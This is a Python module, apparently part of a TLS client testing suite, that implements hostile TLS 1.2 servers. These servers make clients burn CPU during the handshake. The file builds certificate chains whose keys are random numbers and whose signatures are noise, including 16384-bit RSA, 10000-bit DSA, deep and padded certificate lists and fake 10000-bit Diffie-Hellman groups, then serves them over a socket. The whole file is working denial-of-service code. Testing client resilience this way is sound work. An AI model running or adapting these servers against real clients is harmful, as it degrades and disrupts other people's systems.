"""attack_costly.py - servers that make a handshake as dear for the client as they can, at no cost to themselves.

Nothing here is computed by the server but one signature with an honest key: moduli are random numbers, groups are
no groups, and signatures by the certificates of a chain are noise that a client finds out only by computing.
"""
import os
import random
import struct
import subprocess

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from attack_certs import der

RSA_SHA256 = bytes.fromhex("300d06092a864886f70d01010b0500")
DSA_SHA256 = bytes.fromhex("300b0609608648016503040302")
ECDSA_SHA256 = bytes.fromhex("300a06082a8648ce3d040302")


def number(value):
    return der(2, value.to_bytes(value.bit_length() // 8 + 1, "big"))


def odd(bits):
    """As long as that, and of no use otherwise."""
    return random.getrandbits(bits) | 1 << (bits - 1) | 1


def spki(algorithm, key):
    return der(0x30, algorithm + der(3, b"\0" + key))


def rsa_spki(bits, exponent=65537):
    return spki(bytes.fromhex("300d06092a864886f70d0101010500"), der(0x30, number(odd(bits)) + number(exponent)))


def dsa_spki(bits):
    p, q, g, y = odd(bits), odd(256), odd(bits - 1), odd(bits - 1)
    parameters = der(0x30, number(p) + number(q) + number(g))
    return spki(der(0x30, bytes.fromhex("06072a8648ce380401") + parameters), number(y))


def ec_spki(curve, compressed=False):
    key = ec.generate_private_key(curve).public_key()
    if not compressed:
        return key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    full = key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    point = key.public_bytes(Encoding.X962, PublicFormat.CompressedPoint)
    begin = full.index(b"\x30", 2)
    return spki(full[begin:begin + 2 + full[begin + 1]], point)


def openssl_spki(curve):
    """Of a curve that the library for Python no longer knows."""
    made = subprocess.run(["openssl", "ecparam", "-name", curve, "-genkey", "-noout"], capture_output=True, check=True)
    return subprocess.run(["openssl", "ec", "-pubout", "-outform", "DER"], input=made.stdout, capture_output=True,
                          check=True).stdout


def explicit_spki(bits=521, compressed=True):
    """Parameters instead of a curve's name; the point of a prime field needs a square root modulo what is no prime."""
    p = odd(bits)
    while p % 8 != 1:
        p = odd(bits)
    n = (bits + 7) // 8
    field = der(0x30, bytes.fromhex("06072a8648ce3d0101") + number(p))
    curve = der(0x30, der(4, (p - 3).to_bytes(n, "big")) + der(4, (7).to_bytes(n, "big")))
    base = der(4, b"\x02" + (9).to_bytes(n, "big") if compressed else b"\x04" + (9).to_bytes(2 * n, "big"))
    parameters = der(0x30, number(1) + field + curve + base + number(odd(bits - 1)))
    return spki(der(0x30, bytes.fromhex("06072a8648ce3d0201") + parameters), b"\x02" + (5).to_bytes(n, "big"))


def name(text):
    return x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, text)]).public_bytes()


def certificate(subject, issuer, key, algorithm, signature, serial, bare=False):
    """DER of a CA certificate that nobody signed."""
    constraints = der(0xa3, der(0x30, der(0x30, bytes.fromhex("0603551d130101ff") + der(4, b"\x30\x03\x01\x01\xff"))))
    tbs = der(0x30, (b"" if bare else der(0xa0, number(2))) + number(serial) + algorithm + issuer +
              der(0x30, der(23, b"250101000000Z") + der(23, b"450101000000Z")) + subject + key +
              (b"" if bare else constraints))
    return der(0x30, tbs + algorithm + der(3, b"\0" + signature))


def noise(length):
    return b"\0" + os.urandom(length - 1)


def dsa_noise(bits=255):
    return der(0x30, number(odd(bits)) + number(odd(bits)))


def chain(authority, file, host, length, make_key, algorithm, signature):
    """A leaf with an honest key under CAs with such keys, each signed by the next with noise."""
    names = [name(f"Costly {file} {i}") for i in range(length + 1)]
    made = [x509.load_der_x509_certificate(
        certificate(names[i], names[i + 1], make_key(), algorithm, signature(), 7 + i)) for i in range(length)]
    return authority.bundle(file, [authority.sign("policy host", made[0], names=[host]), *made])


def rsa_chain(length, bits, exponent=65537):
    return lambda a, f, h, d: chain(a, f, h, length, lambda: rsa_spki(bits, exponent), RSA_SHA256,
                                    lambda: noise(bits // 8))


def dsa_chain(length, bits):
    return lambda a, f, h, d: chain(a, f, h, length, lambda: dsa_spki(bits), DSA_SHA256, dsa_noise)


def ec_chain(length, curve):
    return lambda a, f, h, d: chain(a, f, h, length, lambda: ec_spki(curve()), ECDSA_SHA256,
                                    lambda: dsa_noise(curve().key_size - 2))


def openssl_chain(length, curve):
    return lambda a, f, h, d: chain(a, f, h, length, lambda: openssl_spki(curve), ECDSA_SHA256, dsa_noise)


# certificate -> what to issue, as in attack_certs.KINDS
CERTIFICATES = {
    "rsa-16384": rsa_chain(21, 16384),
    "rsa-8192": rsa_chain(10, 8192),
    "rsa-exponent": rsa_chain(16, 3072, (1 << 3071) + 1),
    "rsa-exponent-64": rsa_chain(10, 8192, (1 << 64) - 1),
    "rsa-exponent-33": rsa_chain(10, 8192, (1 << 33) - 1),
    "dsa-10000": dsa_chain(10, 10000),
    "dsa-3072": dsa_chain(15, 3072),
    "p521": ec_chain(16, ec.SECP521R1),
    "p384": ec_chain(16, ec.SECP384R1),
    "sect571": openssl_chain(16, "sect571r1"),
    "brainpool512": ec_chain(16, ec.BrainpoolP512R1),
    "brainpool512-few": ec_chain(6, ec.BrainpoolP512R1),
    "p384-deep": ec_chain(150, ec.SECP384R1),
}

# bits of the Diffie-Hellman group
GROUPS = {"dh-10000": 10000, "dh-8192": 8192, "dh-6000": 6000, "dh-4096": 4096, "dh-3072": 3072}
TICKETS = {"tickets": 4000}
LISTED = 99000  # bytes of certificates that OpenSSL takes, and so do senders

# certificates in such a list that belong to nothing -> the key in each
LISTS = {
    "list-rsa": lambda: rsa_spki(512),
    "list-p224": lambda: ec_spki(ec.SECP224R1(), compressed=True),
    "list-p521": lambda: ec_spki(ec.SECP521R1(), compressed=True),
    "list-explicit": explicit_spki,
    "list-dsa": lambda: dsa_spki(512),
}
RAW = (*GROUPS, *LISTS)


def record(kind, payload):
    """A handshake message in as many records as it needs."""
    message = bytes([kind]) + len(payload).to_bytes(3, "big") + payload
    pieces = [message[i:i + 16000] for i in range(0, len(message), 16000)]
    return b"".join(b"\x16\x03\x03" + sized(piece) for piece in pieces)


def sized(value, width=2):
    return len(value).to_bytes(width, "big") + value


def exactly(sock, length):
    data = b""
    while len(data) < length:
        piece = sock.recv(length - len(data))
        if not piece:
            raise ConnectionError
        data += piece
    return data


def listed(make_key):
    """As many small certificates as there is room for."""
    made, used, key = [], 0, make_key()
    while used < LISTED:
        made.append(certificate(b"\x30\0", b"\x30\0", key, ECDSA_SHA256, dsa_noise(60), len(made) + 1, bare=True))
        used += len(made[-1]) + 3
    return made[:-1]


class KeyExchange:
    """A TLS 1.2 server as far as the client's key exchange: one signature, and it is the client that computes."""

    def __init__(self, authority):
        self.key, self.lists = authority.rsa_key, {}

    def chain(self, attack, bundle):
        with open(bundle, "rb") as file:
            leaf = x509.load_pem_x509_certificate(file.read().partition(b"-----END PRIVATE KEY-----")[2])
        if attack in LISTS and attack not in self.lists:
            self.lists[attack] = listed(LISTS[attack])
        return [leaf.public_bytes(Encoding.DER), *self.lists.get(attack, [])]

    def serve(self, sock, attack, bundle):
        hello = exactly(sock, struct.unpack("!xxxH", exactly(sock, 5))[0])
        client_random, server_random = hello[6:38], os.urandom(32)
        bits = GROUPS.get(attack, 2048)
        group = b"".join(sized(n.to_bytes(bits // 8, "big")) for n in (odd(bits), 2, odd(bits - 1)))
        signature = self.key.sign(client_random + server_random + group, padding.PKCS1v15(), hashes.SHA256())
        certificates = b"".join(sized(c, 3) for c in self.chain(attack, bundle))
        # DHE-RSA-AES128-GCM-SHA256, extended_master_secret and renegotiation_info
        sock.sendall(record(2, b"\x03\x03" + server_random + b"\0\0\x9e\0" + sized(b"\0\x17\0\0\xff\x01\0\x01\0")) +
                     record(11, sized(certificates, 3)) + record(12, group + b"\x04\x01" + sized(signature)) +
                     record(14, b""))
        while sock.recv(65536):
            pass
